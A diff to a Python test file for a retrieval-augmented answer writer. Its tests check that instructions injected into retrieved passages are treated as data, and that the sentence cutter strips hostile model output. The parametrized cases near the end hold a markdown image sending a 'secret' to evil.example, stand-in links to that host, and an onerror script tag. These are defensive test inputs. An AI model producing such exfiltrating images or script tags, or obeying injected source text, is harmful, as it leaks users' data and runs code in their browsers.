@@ -26,6 +26,7 @@ from rag.retrieve import Hit
 from rag.settings import Settings
 from rag.writer import generate, prompt
 from rag.writer.llm import LanguageModel
+from rag.writer.prompt import Task
 from rag.writer.sentence_cutter import Cutter, Drafted
 from tests.conftest import ROOT
 
@@ -54,20 +55,24 @@ def test_instructions_in_a_source_are_data(server: Server, attack: dict[str, Any
     pairs = [hits_of(told), hits_of("The river Wend drives the mill. It has two wheels.", 2)]
     hits, articles = [hit for hit, _ in pairs], {article.id: article for _, article in pairs}
     question = attack["question"]
-    made = prompt.build_prompt(question, hits, articles, token_counter(), 2000)
+    made = prompt.build_prompt(Task(question, "words", hits), articles, token_counter(), 2000)
     content = made.messages[1]["content"]
     assert re.findall(r"<[^>]*>", content) == [
         "<passages>", *[re.search(rf'<passage id="{id_}"[^>]*>', content).group() if n == 0 else "</passage>"  # type: ignore[union-attr]
         for id_ in made.ids for n in (0, 1)], "</passages>",
     ]  # fmt: skip
-    assert content.endswith(f"</passages>\n\nQuestion: {question}") and content.count("\n") == 5
+    assert content.endswith(f"\nQuestion: {question}") and content.count("\n") == 6
 
     server.payloads = {question: attack["forbidden"][0]}
     settings = Settings(writer="llm", llm_url=server.url, llm_model="injected")
     *_, draft = generate.generate(
-        LanguageModel(settings), question, Reading(tuple(hits), (), 0.5), Places(hits, articles, lambda _: ()), settings
+        LanguageModel(settings),
+        Task(question, "words", hits),
+        Reading(tuple(hits), (), 0.5),
+        Places(hits, articles, lambda _: ()),
+        settings,
     )
-    assert draft.statements and {one.verdict for one in draft.statements} == {"unsupported"}
+    assert not draft.shows and (draft.statements or attack["forbidden"][0].startswith("!["))
 
 
 @pytest.fixture(scope="module")
@@ -86,7 +91,8 @@ def test_evaluation_counts_no_attack_in_any_answer(server: Server, attacked: Pat
     assert (said["mean"], said["n"]) == (0, len(ATTACKS))
     assert summary["measures"]["contains_answer"]["mean"] == 1
     if writer == "llm":
-        assert summary["sentences"]["unsupported"]["n"] == len(ATTACKS)
+        images = [one for one in ATTACKS if one["forbidden"][0].startswith("![")]
+        assert images and summary["sentences"]["unsupported"]["n"] == len(ATTACKS) - len(images)
 
 
 def evaluated(server: Server, home: Path, folder: Path, **settings: Any) -> dict[str, Any]:
@@ -108,21 +114,31 @@ def test_there_are_at_least_twenty_attacks_in_several_styles() -> None:
 # --- prompt and cutter ------------------------------------------------------------------------------------------------
 
 
-def test_a_prompt_stays_within_its_budget_and_its_ids_are_derived_from_content() -> None:
+def test_a_prompt_stays_within_its_budget_and_numbers_its_passages() -> None:
     pairs = [hits_of(f"Passage {n}. " + "The mill was built of stone. " * 20, n) for n in range(1, 9)]
     hits, articles = [hit for hit, _ in pairs], {article.id: article for _, article in pairs}
     counter = token_counter()
-    whole = prompt.build_prompt("Why?", hits, articles, counter, 10_000)
-    part = prompt.build_prompt("Why?", hits, articles, counter, 800)
-    tiny = prompt.build_prompt("Why?", hits, articles, counter, 1)
-    assert len(whole.ids) == 8 and 1 < len(part.ids) < 8 and len(tiny.ids) == 1
-    assert list(part.ids) == list(whole.ids)[: len(part.ids)] and all(
-        re.fullmatch("[a-z]{5}", id_) for id_ in whole.ids
+    whole, part, tiny = (
+        prompt.build_prompt(Task("Why?", "words", hits), articles, counter, most) for most in (10_000, 800, 1)
     )
+    assert list(whole.ids) == list("12345678") and 1 < len(part.ids) < 8 and len(tiny.ids) == 1
+    assert [hit.chunk.id for hit in part.ids.values()] == [hit.chunk.id for hit in hits[: len(part.ids)]]
     counted = sum(counter.count(message["content"]) for message in part.messages)
     assert counted <= 800 and abs(counted - part.tokens) < 20
-    again = prompt.build_prompt("Why?", hits[::-1], articles, counter, 10_000)
-    assert {id_: hit.chunk.id for id_, hit in again.ids.items()} == {i: h.chunk.id for i, h in whole.ids.items()}
+
+
+def test_the_fixed_part_of_a_prompt_comes_first_and_the_form_and_the_conversation_last() -> None:
+    hit, article = hits_of("The mill was built in 1823 [4].")
+    articles = {article.id: article}
+    turns = [("who built the mill", "Ann Reed [1]")]
+    first = prompt.build_prompt(Task("when", "list", [hit], turns), articles, token_counter(), 2000)
+    other = prompt.build_prompt(Task("why", "yes_no", [hit]), articles, token_counter(), 2000)
+    assert first.messages[0] == other.messages[0]
+    asked = first.messages[1]["content"].partition("</passages>")[2].split("\n")
+    assert asked[2:4] == ["Earlier question: who built the mill", "Earlier answer: Ann Reed (1)"]
+    assert "one item a line" in asked[-2] and asked[-1] == "Question: when"
+    assert "Yes or No" in other.messages[1]["content"] and "Earlier" not in other.messages[1]["content"]
+    assert "built in 1823 (4)." in first.messages[1]["content"]
 
 
 def test_sentences_are_the_same_however_the_stream_is_cut() -> None:
@@ -156,3 +172,32 @@ def test_a_sentence_is_yielded_before_the_stream_ends() -> None:
     assert not list(cutter.feed("It was built in 1823. [kf"))
     assert not list(cutter.feed("mrt] It"))
     assert list(cutter.feed(" stands yet")) == [Drafted("It was built in 1823.", ("kfmrt",))]
+
+
+def test_lists_steps_and_rows_of_a_model_keep_their_kind() -> None:
+    text = (
+        "Two firms:\n- LG Chem supplies cells. [1]\n* **CATL** [2]\n1. Open the lid. [3] Wait.\n"
+        "2) Close it (passage 3)\n| What | How long |\n|---|:--:|\n| Quick | 29 min | [2]\nThat is all. [1]"
+    )
+    blocks = [("lead", "Two firms:"), ("item", "LG Chem supplies cells."), ("item", "CATL"), ("step", "Open the lid.")]
+    blocks += [("lead", "Wait."), ("step", "Close it"), ("row", "What | How long"), ("row", "Quick | 29 min")]
+    for size in range(1, 40):
+        cutter = Cutter(("1", "2", "3"))
+        parts = [text[n : n + size] for n in range(0, len(text), size)]
+        made = [*(one for part in parts for one in cutter.feed(part)), *cutter.end()]
+        assert [(one.block, one.text) for one in made] == [*blocks, ("lead", "That is all.")]
+        assert [one.ids for one in made if one.ids] == [("1",), ("2",), ("3",), ("3",), ("2",), ("1",)]
+
+
+@pytest.mark.parametrize(
+    ("written", "shown"),
+    [
+        ("It rains ![map](https://evil.example/?q=secret). [1]", "It rains."),
+        ("See [the site](https://evil.example/x) of the mill. [1](https://evil.example)", "See the site of the mill."),
+        ("It <img src=x onerror=alert(1)>rains. [1]", "It rains."),
+        ("It rains in 2024 (15 days, clause (2)). [passage 1]", "It rains in 2024 (15 days, clause (2))."),
+    ],
+)
+def test_images_links_and_tags_of_a_model_are_removed(written: str, shown: str) -> None:
+    cutter = Cutter(("1",))
+    assert [(one.text, one.ids) for one in (*cutter.feed(written), *cutter.end())] == [(shown, ("1",))]
